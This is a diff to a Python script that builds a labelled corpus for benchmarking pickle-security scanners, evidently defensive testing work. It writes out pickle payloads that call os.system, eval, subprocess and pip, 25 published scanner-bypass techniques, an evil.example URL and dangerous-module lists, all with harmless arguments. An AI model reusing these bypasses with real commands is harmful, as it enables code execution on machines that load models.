@@ -14,6 +14,14 @@ writers (an opcode writer for fickling's `Pickled([...])` lists, reduce payloads
 `__reduce__` classes, zips and .npy files). Nothing is ever unpickled, loaded or imported from the
 peers' code: fickling's opcode lists are evaluated against this script's own opcode classes only.
 
+Also rebuilt: modelaudit's in-test fixtures (pickle byte strings written inline in its tests, computed
+from the syntax tree without running anything, and its `__reduce__` objects, written by our reduce writer
+in the container each test uses: zip, torch zip, gzip, 7z, TorchServe .mar, ExecuTorch .ptl), and 25
+published scanner bypasses (picklescan GHSAs and issues: pkgutil.resolve_name, ensurepip, timeit, pip,
+cProfile/profile/pdb, numpy.testing runstring, uuid/imaplib/_osx_support command helpers, asyncio
+subprocess transports, operator.methodcaller, functools.partial, getattr chains, runpy...) as our own
+payloads calling the named function with a harmless argument (folder `bypasses/`).
+
 Labels come from the peers' own test expectations (a picklescan `Dangerous` global, a fickling
 `assertGreater(..., LIKELY_SAFE)`, a modelaudit asset under `malicious/`...); entries whose
 expectation is neither are left out. The corpus and labels.tsv are written to CACHE/corpus.
@@ -470,6 +478,291 @@ def modelaudit_entries(src, corpus):
             corpus.add_file("modelaudit", p, label, rel, name=rel.replace("/", "__"))
 
 
+# ---------------------------------------------------------------- modelaudit's in-test fixtures
+# Fixtures modelaudit's tests build at run time. Two kinds are rebuilt here:
+#  1. pickle byte strings written inline in a test (`b"cposix\nsystem\n(S'id'\ntR."`, concatenations of
+#     such literals and module-level constants): their value is computed from the syntax tree by a tiny
+#     evaluator (bytes literals, `+`, `*` and names bound to those), never by running the test;
+#  2. objects whose `__reduce__` returns a call, pickled by `pickle.dump` in the test: rebuilt by this
+#     script's reduce writer from the call the test names, in the container the test writes (plain file,
+#     zip member, torch zip, gzip, 7z, TorchServe .mar, ExecuTorch .ptl), listed by hand below.
+# Labels: an inline pickle that imports a name from DANGEROUS is malicious when its test's name does not
+# say it expects no finding; one that imports nothing dangerous is benign when the test's name says it
+# expects none ("benign", "legitimate", "safe", "not_flag", "no_false"); the rest are
+# left out, and so are tests that patch the scanner (they assert on the patch) or only rule out "critical".
+# Hand-listed __reduce__ fixtures carry the label of the test's own assertion.
+DANGEROUS_MODULES = {"os", "posix", "nt", "subprocess", "runpy", "pip", "pip._internal", "webbrowser", "importlib", "socket",
+                     "pty", "commands", "joblib", "pickle", "_pickle", "marshal", "shutil", "ctypes"}
+DANGEROUS_BUILTINS = {"eval", "exec", "execfile", "compile", "__import__", "getattr", "setattr", "globals", "locals", "open",
+                      "apply", "input", "breakpoint", "vars"}
+BENIGN_TEST_WORDS = ("benign", "legitimate", "safe", "not_flag", "no_false")
+_GLOBAL_RE = re.compile(rb"(?:^|[^\w])c([A-Za-z_][\w.]*)\n([A-Za-z_][\w.]*)\n")
+_SG_RE = re.compile(rb"[\x8c]([\x01-\x40])")
+
+
+def _globals_in(b):
+    out = [(m.decode(), n.decode()) for m, n in _GLOBAL_RE.findall(b)]
+    # STACK_GLOBAL operands written as two SHORT_BINUNICODE strings (optionally memoized) before 0x93.
+    i = 0
+    while True:
+        j = b.find(b"\x93", i)
+        if j < 0:
+            break
+        strs = []
+        k = 0
+        while k < j:
+            if b[k] == 0x8C and k + 1 < len(b):
+                n = b[k + 1]
+                strs.append((k, b[k + 2:k + 2 + n]))
+                k += 2 + n
+            else:
+                k += 1
+        if len(strs) >= 2:
+            try:
+                out.append((strs[-2][1].decode(), strs[-1][1].decode()))
+            except UnicodeDecodeError:
+                pass
+        i = j + 1
+    return out
+
+
+def _is_dangerous(module, name):
+    top = module.split(".")[0]
+    if module in ("builtins", "__builtin__", "__builtins__"):
+        return name in DANGEROUS_BUILTINS
+    return module in DANGEROUS_MODULES or top in DANGEROUS_MODULES
+
+
+def _looks_like_pickle(b):
+    if len(b) < 6:
+        return False
+    if b[0] == 0x80 and b[1] <= 5:
+        return True
+    return bool(re.match(rb"^[(\]}]?c[A-Za-z_][\w.]*\n[A-Za-z_][\w.]*\n", b))
+
+
+def _bytes_value(node, env):
+    if isinstance(node, ast.Constant) and isinstance(node.value, bytes):
+        return node.value
+    if isinstance(node, ast.Name) and node.id in env:
+        return env[node.id]
+    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
+        a, b = _bytes_value(node.left, env), _bytes_value(node.right, env)
+        return a + b if a is not None and b is not None else None
+    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mult) and isinstance(node.right, ast.Constant) \
+            and isinstance(node.right.value, int) and 0 <= node.right.value <= 4096:
+        a = _bytes_value(node.left, env)
+        return a * node.right.value if a is not None else None
+    return None
+
+
+def _bound_bytes(stmts, env):
+    for st in stmts:
+        if isinstance(st, ast.Assign) and len(st.targets) == 1 and isinstance(st.targets[0], ast.Name):
+            v = _bytes_value(st.value, env)
+            if v is not None:
+                env[st.targets[0].id] = v
+
+
+def modelaudit_inline_pickles(src, corpus):
+    base = os.path.join(src, "tests")
+    seen = set()
+    for root, _, files in sorted(os.walk(base)):
+        if "generators" in root or "assets" in root:
+            continue
+        for fname in sorted(files):
+            if not fname.endswith(".py"):
+                continue
+            path = os.path.join(root, fname)
+            try:
+                tree = ast.parse(open(path).read())
+            except (SyntaxError, UnicodeDecodeError):
+                continue
+            module_env = {}
+            _bound_bytes(tree.body, module_env)
+            for fn in ast.walk(tree):
+                if not isinstance(fn, ast.FunctionDef) or not fn.name.startswith("test"):
+                    continue
+                env = dict(module_env)
+                _bound_bytes([n for n in ast.walk(fn) if isinstance(n, ast.Assign)], env)
+                values = []
+                for node in ast.walk(fn):
+                    if isinstance(node, (ast.Constant, ast.BinOp, ast.Name)):
+                        v = _bytes_value(node, env)
+                        if v is not None and _looks_like_pickle(v) and v not in values:
+                            values.append(v)
+                # Keep the longest of values that prefix one another (a literal and the concatenation it starts).
+                values = [v for v in values if not any(w != v and w.startswith(v) for w in values)]
+                # A test that patches the scanner (monkeypatch, mock) asserts on the patch, not on the bytes; a test
+                # that only rules out "critical" allows a warning: neither gives a label.
+                body = ast.dump(fn)
+                if "monkeypatch" in body or "mock" in body.lower() or "critical" in fn.name.lower():
+                    continue
+                benign_name = any(w in fn.name.lower() for w in BENIGN_TEST_WORDS)
+                rel = os.path.relpath(path, base)
+                for i, v in enumerate(values):
+                    gl = _globals_in(v)
+                    if not gl or v in seen:
+                        continue
+                    danger = any(_is_dangerous(m, n) for m, n in gl)
+                    if danger and not benign_name:
+                        label = "malicious"
+                    elif not danger and benign_name:
+                        label = "benign"
+                    else:
+                        continue
+                    seen.add(v)
+                    name = f"intest__{rel[:-3].replace('/', '.')}.{fn.name}{'' if i == 0 else '.' + str(i + 1)}.pkl"
+                    corpus.add("modelaudit", name, v, label, f"inline pickle in {rel}::{fn.name}")
+
+
+def _reduce4(module, name, args):
+    """`module.name(*args)` as protocol 4 (what pickle.dumps writes), args: strings or lists of strings."""
+    body = b""
+    for a in args:
+        body += (b"]\x94(" + b"".join(mms.ustr(x) + b"\x94" for x in a) + b"e") if isinstance(a, list) else mms.ustr(a) + b"\x94"
+    return (mms.ustr(module) + b"\x94" + mms.ustr(name) + b"\x94\x93\x94(" + body + b"t\x94R\x94")
+
+
+def _frame4(body):
+    body = body + b"."
+    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body
+
+
+def _in_dict(key, call):
+    return _frame4(b"}\x94" + mms.ustr(key) + b"\x94" + call + b"s")
+
+
+def _sevenzip(files):
+    """A 7z archive (our own writer): one LZMA2 folder (Python's lzma raw encoder), plain header."""
+    import lzma
+    data = b"".join(d for _, d in files)
+    packed = lzma.compress(data, format=lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 20}])
+
+    def num(v):
+        for n in range(8):
+            if (v >> (8 * n)) < (1 << (7 - n)):
+                return bytes([((0xFF << (8 - n)) & 0xFF) | (v >> (8 * n))]) + v.to_bytes(8, "little")[:n]
+        return b"\xff" + v.to_bytes(8, "little")
+
+    crc = lambda b: struct.pack("<I", __import__("zlib").crc32(b))  # noqa: E731
+    h = b"\x01\x04\x06" + num(0) + num(1) + b"\x09" + num(len(packed)) + b"\x00"
+    h += b"\x07\x0b" + num(1) + b"\x00" + num(1) + b"\x21\x21\x01\x10" + b"\x0c" + num(len(data)) + b"\x00"
+    h += b"\x08\x0d" + num(len(files))
+    if len(files) > 1:
+        h += b"\x09" + b"".join(num(len(d)) for _, d in files[:-1])
+    h += b"\x0a\x01" + b"".join(crc(d) for _, d in files) + b"\x00\x00"
+    names = b"\x00" + b"".join(n.encode("utf-16-le") + b"\x00\x00" for n, _ in files)
+    h += b"\x05" + num(len(files)) + b"\x11" + num(len(names)) + names + b"\x00\x00"
+    tail = struct.pack("<QQ", len(packed), len(h)) + crc(h)
+    return b"7z\xbc\xaf\x27\x1c\x00\x04" + crc(tail) + tail + packed + h
+
+
+def modelaudit_reduce_fixtures(corpus):
+    """The tests' `__reduce__` objects, each in the container its test writes (read from the test)."""
+    sysc = lambda cmd: _reduce4("posix", "system", [cmd])  # noqa: E731  (os.system pickles as posix.system on Linux)
+    evalc = lambda code: _reduce4("builtins", "eval", [code])  # noqa: E731
+    plain = lambda call: _frame4(call)  # noqa: E731
+    cases = [
+        ("test_cli.test_exit_code_security_issues.pkl", plain(sysc('echo "This is a malicious pickle"'))),
+        ("test_webbrowser_detection.test_webbrowser_pattern_in_raw_bytes.pkl", plain(_reduce4("webbrowser", "open", ["https://malicious.site"]))),
+        ("test_why_explanations.test_pickle_scanner_includes_why.pkl", plain(sysc("echo pwned"))),
+        ("test_importlib_detection.test_importlib_pattern_in_raw_bytes.pkl", plain(_reduce4("importlib", "import_module", ["os"]))),
+        ("test_pickle_context_filtering.test_actual_malicious_pickle_still_detected.pkl",
+         plain(_reduce4("subprocess", "call", [["echo", "malicious"]]))),
+        ("test_false_positive_fixes.test_malicious_files_still_detected.pkl", plain(sysc("echo 'malicious code executed'"))),
+        ("utils.sources.test_dvc_integration.malicious.pkl", plain(sysc("echo 'malicious code'"))),
+        ("scanners.test_tf_savedmodel_scanner.malicious.pkl", _in_dict("malicious", evalc("print('malicious code')"))),
+        ("scanners.test_sevenzip_scanner.test_scan_malicious_archive.7z",
+         _sevenzip([("malicious_model.pkl", plain(evalc("print('malicious code executed')")))])),
+        ("scanners.test_compressed_scanner.test_compressed_scanner_surfaces_malicious_inner_findings.pkl.gz",
+         __import__("gzip").compress(plain(evalc("print('owned')")), mtime=0)),
+        ("scanners.test_zip_scanner.test_scan_zip_with_dangerous_pickle.zip", _zip({"dangerous.pkl": plain(sysc("echo pwned"))})),
+        ("test_pytorch_zip_detection.test_scan_malicious_bin_file.bin",
+         _zip({"archive/data.pkl": _in_dict("model", sysc("echo pwned")), "archive/version": b"3\n"})),
+        ("test_pytorch_zip_detection.test_scan_malicious_zip_pkl.pkl", _zip({"data.pkl": _in_dict("model", sysc("echo pwned"))})),
+        ("scanners.test_pytorch_zip_scanner.test_pytorch_zip_scanner_detects_malicious_zip_pkl.pkl",
+         _zip({"version": b"3", "data.pkl": _in_dict("malicious", evalc("print('pwned')"))})),
+        ("scanners.test_executorch_scanner.malicious.ptl",
+         _zip({"version": b"1", "bytecode.pkl": _frame4(b"}\x94(" + mms.ustr("weights") + b"\x94]\x94(K\x01K\x02K\x03e"
+                                                        + mms.ustr("malicious") + b"\x94" + evalc("print('evil')") + b"u")})),
+        ("scanners.test_torchserve_mar_scanner.malicious.mar",
+         _zip({"MAR-INF/MANIFEST.json": json.dumps({"model": {"handler": "handler.py", "serializedFile": "weights.bin"}}).encode(),
+               "handler.py": b"def handle(data, context):\n    return data\n", "weights.bin": plain(sysc("echo torchserve-mar-test"))})),
+    ]
+    for name, data in cases:
+        corpus.add("modelaudit", "intest__" + name, data, "malicious", "__reduce__ fixture rebuilt from the test")
+    benign = [
+        ("scanners.test_executorch_scanner.safe.ptl", _zip({"version": b"1", "bytecode.pkl": _frame4(
+            b"}\x94" + mms.ustr("weights") + b"\x94]\x94(K\x01K\x02K\x03es")})),
+        ("scanners.test_compressed_scanner.test_compressed_scanner_routes_benign_inner_payload.pkl.gz",
+         __import__("gzip").compress(_frame4(b"}\x94" + mms.ustr("weights") + b"\x94]\x94(K\x01K\x02K\x03es"), mtime=0)),
+        ("scanners.test_sevenzip_scanner.test_scan_safe_archive.7z",
+         _sevenzip([("safe_model.pkl", _frame4(b"}\x94" + mms.ustr("weights") + b"\x94]\x94(K\x01K\x02K\x03es"))])),
+        ("scanners.test_torchserve_mar_scanner.test_scan_benign_mar_with_safe_handler.mar",
+         _zip({"MAR-INF/MANIFEST.json": json.dumps({"model": {"handler": "handler.py", "serializedFile": "weights.bin",
+                                                               "extraFiles": "labels.json"}}).encode(),
+               "handler.py": b"def handle(data, context):\n    return data\n", "weights.bin": b"weights", "labels.json": b"{}"})),
+    ]
+    for name, data in benign:
+        corpus.add("modelaudit", "intest__" + name, data, "benign", "benign fixture rebuilt from the test")
+
+
+# ---------------------------------------------------------------- published bypasses
+# Proofs of concept published in advisories and issues of pickle scanners (mostly picklescan GHSAs and
+# modelscan issues), written here as our own reduce payloads: the callable each advisory named, called
+# with a harmless argument. Label: malicious (each was published as a scanner bypass that runs code).
+PUBLISHED_BYPASSES = [
+    ("GHSA-vvpj-8cmc-gx39 pkgutil.resolve_name", b"\x80\x02cpkgutil\nresolve_name\nX\t\x00\x00\x00os:system\x85R"
+     b"X\x04\x00\x00\x00true\x85R."),
+    ("GHSA-xp4f-hrf8-rxw7 ensurepip._run_pip", None, "ensurepip", "_run_pip", [["install", "evil-pkg"]]),
+    ("GHSA-v7x6-rv5q-mhwc timeit.timeit", None, "timeit", "timeit", ["__import__('os').system('true')"]),
+    ("picklescan pip.main", None, "pip", "main", [["install", "evil-pkg"]]),
+    ("picklescan cProfile.run", None, "cProfile", "run", ["__import__('os').system('true')"]),
+    ("picklescan profile.run", None, "profile", "run", ["__import__('os').system('true')"]),
+    ("picklescan pdb.run", None, "pdb", "run", ["__import__('os').system('true')"]),
+    ("picklescan numpy.testing runstring", None, "numpy.testing._private.utils", "runstring", ["__import__('os').system('true')", {}]),
+    ("picklescan uuid._get_command_stdout", None, "uuid", "_get_command_stdout", ["true"]),
+    ("picklescan imaplib.IMAP4_stream", None, "imaplib", "IMAP4_stream", ["true"]),
+    ("picklescan _osx_support._read_output", None, "_osx_support", "_read_output", ["true"]),
+    ("picklescan doctest.debug_script", None, "doctest", "debug_script", ["__import__('os').system('true')"]),
+    ("picklescan trace runctx", None, "trace", "Trace.runctx", ["__import__('os').system('true')"]),
+    ("picklescan code.InteractiveInterpreter", None, "code", "interact", ["banner"]),
+    ("picklescan torch.utils.bottleneck run_cprofile", None, "torch.utils.bottleneck.__main__", "run_cprofile",
+     ["__import__('os').system('true')", {}]),
+    ("picklescan idlelib.pyshell", None, "idlelib.pyshell", "main", []),
+    ("picklescan lib2to3 main", None, "lib2to3.main", "main", ["x", ["-w", "."]]),
+    ("picklescan distutils spawn", None, "distutils.spawn", "spawn", [["true"]]),
+    ("picklescan setuptools spawn", None, "setuptools._distutils.spawn", "spawn", [["true"]]),
+    ("CVE-2025-10157 asyncio subprocess", None, "asyncio.unix_events", "_UnixSubprocessTransport._start", [["true"]]),
+    ("picklescan operator.methodcaller", b"\x80\x02coperator\nmethodcaller\nX\x06\x00\x00\x00systemX\x04\x00\x00\x00true\x86R"
+     b"cbuiltins\n__import__\nX\x02\x00\x00\x00os\x85R\x85R."),
+    ("picklescan functools.partial", b"\x80\x02cfunctools\npartial\ncos\nsystem\nX\x04\x00\x00\x00true\x86R)R."),
+    ("picklescan getattr chain", b"\x80\x02cbuiltins\ngetattr\ncbuiltins\n__import__\nX\x02\x00\x00\x00os\x85RX\x06\x00\x00\x00system"
+     b"\x86RX\x04\x00\x00\x00true\x85R."),
+    ("picklescan runpy._run_code", None, "runpy", "_run_code", ["__import__('os').system('true')", {}]),
+    ("picklescan webbrowser.open", None, "webbrowser", "open", ["https://evil.example/x"]),
+]
+
+
+def _arg2(a):
+    if isinstance(a, dict):
+        return b"}"
+    if isinstance(a, list):
+        return b"(" + b"".join(_arg2(x) for x in a) + b"l"
+    b = a.encode()
+    return b"X" + struct.pack("<I", len(b)) + b
+
+
+def published_bypass_entries(corpus):
+    for item in PUBLISHED_BYPASSES:
+        name, raw = item[0], item[1]
+        if raw is None:
+            _, _, module, fn, args = item
+            raw = b"\x80\x02c" + module.encode() + b"\n" + fn.encode() + b"\n(" + b"".join(_arg2(a) for a in args) + b"tR."
+        corpus.add("bypasses", name.replace(" ", "_") + ".pkl", raw, "malicious", name)
+
+
 # ---------------------------------------------------------------- tools
 RANK = {"none": 0, "low": 1, "medium": 2, "high": 3, "critical": 4}
 
@@ -603,6 +896,10 @@ def main():
             d = os.path.join(src, peer)
             if os.path.isdir(d):
                 build(d, corpus)
+        if os.path.isdir(os.path.join(src, "modelaudit")):
+            modelaudit_inline_pickles(os.path.join(src, "modelaudit"), corpus)
+            modelaudit_reduce_fixtures(corpus)
+        published_bypass_entries(corpus)
         with open(labels, "w") as f:
             for e in corpus.entries:
                 f.write("\t".join(e) + "\n")
@@ -614,7 +911,7 @@ def main():
     print(f"  excluded (labelled malicious by the peer, but nothing runs on load): {len(excluded)}")
     for e in excluded:
         print(f"    {e[0]}: {e[3]}")
-    for peer in builders:
+    for peer in list(builders) + ["bypasses"]:
         pm = sum(1 for e in mal if e[2] == peer)
         pb = sum(1 for e in ben if e[2] == peer)
         print(f"  {peer}: {pm} malicious, {pb} benign")
